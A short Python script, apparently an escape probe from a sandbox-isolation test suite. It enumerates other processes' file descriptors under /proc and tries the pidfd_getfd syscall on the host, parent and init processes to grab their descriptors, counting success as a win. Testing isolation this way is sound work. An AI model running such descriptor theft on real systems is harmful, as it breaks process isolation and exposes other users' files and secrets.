"""Opens the files of other processes through /proc, and copies descriptors out of them.

gain: secret, host
"""

# %%
import os

for pid in (name for name in os.listdir("/proc") if name.isdigit()):
    if pid == str(os.getpid()):
        continue
    for fd in attempt(os.listdir, f"/proc/{pid}/fd") or ():
        take(attempt(os.readlink, f"/proc/{pid}/fd/{fd}"))

for pid in (HOST["process"], os.getppid(), 1, 2):
    handle = attempt(os.pidfd_open, pid)
    if handle is not None and LIBC.syscall(438, handle, 0, 0) >= 0:  # pidfd_getfd
        win()
